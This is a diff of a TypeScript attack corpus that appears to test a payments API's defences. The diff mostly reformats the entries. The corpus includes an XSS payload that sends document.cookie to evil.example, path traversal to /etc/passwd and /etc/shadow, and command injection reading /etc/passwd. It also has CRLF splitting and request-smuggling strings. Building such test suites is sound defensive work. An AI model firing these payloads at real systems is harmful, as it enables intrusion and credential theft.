@@ -21,13 +21,27 @@ export interface Attack {
 
 const q = (s: string) => encodeURIComponent(s);
 const payment = (fields: Record<string, unknown>) =>
-  JSON.stringify({ terminal_id: 'trm_0190f0b2c3d44e5f8a9b0c1d2e3f4a5b', amount: 100, currency: 'INR', method: 'upi_qr', ...fields });
+  JSON.stringify({
+    terminal_id: 'trm_0190f0b2c3d44e5f8a9b0c1d2e3f4a5b',
+    amount: 100,
+    currency: 'INR',
+    method: 'upi_qr',
+    ...fields,
+  });
 
 function inQuery(cls: AttackClass, name: string, payload: string, param = 'terminal_id'): Attack {
   return { name, cls, place: 'query', method: 'GET', path: `/v1/payments?${param}=${q(payload)}` };
 }
 function inBody(cls: AttackClass, name: string, payload: string, field = 'note'): Attack {
-  return { name, cls, place: 'body', method: 'POST', path: '/v1/payments', headers: { 'content-type': 'application/json' }, body: payment({ [field]: payload }) };
+  return {
+    name,
+    cls,
+    place: 'body',
+    method: 'POST',
+    path: '/v1/payments',
+    headers: { 'content-type': 'application/json' },
+    body: payment({ [field]: payload }),
+  };
 }
 function inHeader(cls: AttackClass, name: string, header: string, payload: string): Attack {
   return { name, cls, place: 'header', method: 'GET', path: '/v1/payments', headers: { [header]: payload } };
@@ -51,7 +65,13 @@ const XSS = [
   `javascript:alert(document.domain)`,
   `<body onload=fetch('//evil.example/'+document.cookie)>`,
 ];
-const TRAVERSAL = [`../../../../etc/passwd`, `....//....//....//etc/shadow`, `..%2f..%2f..%2fetc%2fpasswd`, `..\\..\\..\\windows\\win.ini`, `/proc/self/environ`];
+const TRAVERSAL = [
+  `../../../../etc/passwd`,
+  `....//....//....//etc/shadow`,
+  `..%2f..%2f..%2fetc%2fpasswd`,
+  `..\\..\\..\\windows\\win.ini`,
+  `/proc/self/environ`,
+];
 const COMMANDS = [
   `; cat /etc/passwd`,
   `| id`,
@@ -114,12 +134,24 @@ export const ATTACKS: Attack[] = [
   },
   inHeader('xss', 'xss user-agent', 'user-agent', `<script>alert(1)</script>`),
   inHeader('xss', 'xss referer', 'referer', `http://x/"><script>alert(1)</script>`),
-  { name: 'xss path', cls: 'xss', place: 'path', method: 'GET', path: `/v1/payments/${q('<script>alert(1)</script>')}` },
+  {
+    name: 'xss path',
+    cls: 'xss',
+    place: 'path',
+    method: 'GET',
+    path: `/v1/payments/${q('<script>alert(1)</script>')}`,
+  },
   // ---- Path traversal
   ...TRAVERSAL.map((p, i) => inQuery('path_traversal', `traversal query ${i}`, p, 'cursor')),
   ...TRAVERSAL.slice(0, 3).map((p, i) => inBody('path_traversal', `traversal body ${i}`, p)),
   inHeader('path_traversal', 'traversal header', 'x-original-url', '/../../../etc/passwd'),
-  { name: 'traversal path encoded', cls: 'path_traversal', place: 'path', method: 'GET', path: '/v1/payments/x/..%2f..%2fetc%2fpasswd' },
+  {
+    name: 'traversal path encoded',
+    cls: 'path_traversal',
+    place: 'path',
+    method: 'GET',
+    path: '/v1/payments/x/..%2f..%2fetc%2fpasswd',
+  },
   // ---- Command injection (with and without spaces)
   ...COMMANDS.map((p, i) => inQuery('command_injection', `cmd query ${i}: ${JSON.stringify(p)}`, p)),
   ...COMMANDS.slice(4).map((p, i) => inBody('command_injection', `cmd body ${i}: ${JSON.stringify(p)}`, p)),
@@ -139,16 +171,86 @@ export const ATTACKS: Attack[] = [
   ...LOG4SHELL.slice(3).map((p, i) => inBody('log4shell', `log4shell body ${i}`, p)),
   // ---- Protocol violations
   { name: 'method not allowed (PROPFIND)', cls: 'protocol', place: 'method', method: 'PROPFIND', path: '/v1/payments' },
-  { name: 'content type not allowed (XML)', cls: 'protocol', place: 'content_type', method: 'POST', path: '/v1/payments', headers: { 'content-type': 'text/xml' }, body: '<payment><amount>100</amount></payment>' },
-  { name: 'form body', cls: 'protocol', place: 'content_type', method: 'POST', path: '/v1/payments', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'amount=100&currency=INR' },
-  { name: 'charset UTF-7', cls: 'protocol', place: 'content_type', method: 'POST', path: '/v1/payments', headers: { 'content-type': 'application/json; charset=utf-7' }, body: payment({}) },
-  { name: 'body without content type', cls: 'protocol', place: 'content_type', method: 'POST', path: '/v1/payments', headers: { 'content-type': '' }, body: payment({}) },
-  { name: 'GET with a body', cls: 'protocol', place: 'body', method: 'GET', path: '/v1/payments', headers: { 'content-type': 'application/json' }, body: '{"status":"succeeded"}' },
-  { name: 'null byte in query', cls: 'protocol', place: 'query', method: 'GET', path: '/v1/payments?status=pending%00' },
-  { name: 'invalid UTF-8 in query', cls: 'protocol', place: 'query', method: 'GET', path: '/v1/payments?cursor=%C0%AF%C0%AF' },
-  { name: 'CRLF response splitting', cls: 'protocol', place: 'query', method: 'GET', path: `/v1/payments?cursor=${q('x\r\nSet-Cookie: session=attacker')}` },
-  { name: 'request smuggling in a parameter', cls: 'protocol', place: 'query', method: 'GET', path: `/v1/payments?cursor=${q('1\r\n\r\nGET /metrics HTTP/1.1\r\nHost: x')}` },
-  { name: 'CRLF in a parameter name', cls: 'protocol', place: 'query', method: 'GET', path: `/v1/payments?${q('x\r\nLocation: http://evil.example')}=1` },
+  {
+    name: 'content type not allowed (XML)',
+    cls: 'protocol',
+    place: 'content_type',
+    method: 'POST',
+    path: '/v1/payments',
+    headers: { 'content-type': 'text/xml' },
+    body: '<payment><amount>100</amount></payment>',
+  },
+  {
+    name: 'form body',
+    cls: 'protocol',
+    place: 'content_type',
+    method: 'POST',
+    path: '/v1/payments',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: 'amount=100&currency=INR',
+  },
+  {
+    name: 'charset UTF-7',
+    cls: 'protocol',
+    place: 'content_type',
+    method: 'POST',
+    path: '/v1/payments',
+    headers: { 'content-type': 'application/json; charset=utf-7' },
+    body: payment({}),
+  },
+  {
+    name: 'body without content type',
+    cls: 'protocol',
+    place: 'content_type',
+    method: 'POST',
+    path: '/v1/payments',
+    headers: { 'content-type': '' },
+    body: payment({}),
+  },
+  {
+    name: 'GET with a body',
+    cls: 'protocol',
+    place: 'body',
+    method: 'GET',
+    path: '/v1/payments',
+    headers: { 'content-type': 'application/json' },
+    body: '{"status":"succeeded"}',
+  },
+  {
+    name: 'null byte in query',
+    cls: 'protocol',
+    place: 'query',
+    method: 'GET',
+    path: '/v1/payments?status=pending%00',
+  },
+  {
+    name: 'invalid UTF-8 in query',
+    cls: 'protocol',
+    place: 'query',
+    method: 'GET',
+    path: '/v1/payments?cursor=%C0%AF%C0%AF',
+  },
+  {
+    name: 'CRLF response splitting',
+    cls: 'protocol',
+    place: 'query',
+    method: 'GET',
+    path: `/v1/payments?cursor=${q('x\r\nSet-Cookie: session=attacker')}`,
+  },
+  {
+    name: 'request smuggling in a parameter',
+    cls: 'protocol',
+    place: 'query',
+    method: 'GET',
+    path: `/v1/payments?cursor=${q('1\r\n\r\nGET /metrics HTTP/1.1\r\nHost: x')}`,
+  },
+  {
+    name: 'CRLF in a parameter name',
+    cls: 'protocol',
+    place: 'query',
+    method: 'GET',
+    path: `/v1/payments?${q('x\r\nLocation: http://evil.example')}=1`,
+  },
   {
     name: 'unparseable JSON hiding a payload',
     cls: 'protocol',
